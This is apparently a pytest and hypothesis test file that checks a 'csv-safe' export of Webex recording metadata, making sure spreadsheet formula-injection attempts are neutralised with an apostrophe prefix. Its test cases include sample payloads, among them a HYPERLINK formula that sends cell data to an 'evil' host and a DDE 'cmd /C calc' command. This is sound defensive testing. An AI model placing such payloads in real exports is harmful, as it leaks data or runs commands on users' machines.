"""CSV for spreadsheets: nothing that a caller has chosen is computed, whichever separator the spreadsheet expects."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_provider_webex_recordings.storage import FORMATS
from tests.helpers import reading_tables as reading

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
SEPARATORS = [",", ";", "\t", "|"]
TEXT = st.text(st.sampled_from([*SIGNS, *SEPARATORS, *" \u00a0\r\n\"'\\\ufeff\x00\x0b1aé"]), min_size=1, max_size=8)
FIELDS = {"id": TEXT, "topic": TEXT, "ownerEmail": TEXT, "createTime": TEXT, "new": TEXT | st.lists(TEXT, max_size=2)}
NUMBERS = {"durationSeconds": st.integers(), "sizeBytes": st.floats(allow_nan=False, allow_infinity=False)}
PARTS = {"serviceData": st.fixed_dictionaries({}, optional={"locationId": TEXT, "queue": TEXT})}
RECORDINGS = st.lists(st.fixed_dictionaries({}, optional={**FIELDS, **NUMBERS, **PARTS}), max_size=3)


def safe(recordings: list[Any]) -> str:
    return b"".join(FORMATS["csv-safe"].encode([recordings], {})).decode()


def cells(text: str, separator: str) -> list[str]:
    """Read CSV as a spreadsheet does that expects a separator."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        begin = cell.lstrip("".join(map(chr, range(0x21))) + "\"'\u00a0\ufeff")
        return (begin[:1] in [*SIGNS] and not cell.startswith("'")) or cell[:1] in ("\t", "\r", "\n")
    return False


@pytest.mark.parametrize("separator", SEPARATORS)
@given(recordings=RECORDINGS)
def test_no_cell_is_a_formula(separator: str, recordings: list[Any]) -> None:
    assert not [cell for cell in cells(safe(recordings), separator) if is_formula(cell)]


@given(recordings=RECORDINGS)
def test_every_value_comes_back_as_it_was_sent(recordings: list[Any]) -> None:
    rows = csv.DictReader(io.StringIO(safe(recordings), newline=""))
    told = [
        reading.recording({name: json.loads(cell) if name in NUMBERS else cell for name, cell in row.items() if cell})
        for row in rows
    ]
    assert told == recordings


@pytest.mark.parametrize(
    ("topic", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\rx", "'\rx"),
        (' "=1+1', "' \"=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("x;=1+1", "x;'=1+1"),
        ("x\n@y", "x\n'@y"),
        ("Call with Zoë - 2026-11-01", "Call with Zoë - 2026-11-01"),
        ("a;b, c=d", "a;b, c=d"),
        ("", ""),
    ],
)
def test_an_apostrophe_stands_before_a_formula_only(topic: str, cell: str) -> None:
    (row,) = csv.DictReader(io.StringIO(safe([{"id": "1", "topic": topic}]), newline=""))

    assert row["topic"] == cell
    assert json.loads(row["other"] or "{}") == ({} if cell == topic and topic else {"topic": topic})


def test_negative_numbers_stay_numbers() -> None:
    (row,) = csv.DictReader(io.StringIO(safe([{"durationSeconds": -5, "sizeBytes": -0.5}]), newline=""))

    assert (row["durationSeconds"], row["sizeBytes"], row["other"]) == ("-5", "-0.5", "")


def test_a_file_without_anything_to_make_harmless_is_the_exact_one() -> None:
    pages = [[{"id": "1", "topic": "Call with Zoë", "durationSeconds": -5, "new": [1]}]]

    assert [*FORMATS["csv-safe"].encode(pages, {})] == [*FORMATS["csv"].encode(pages, {})]
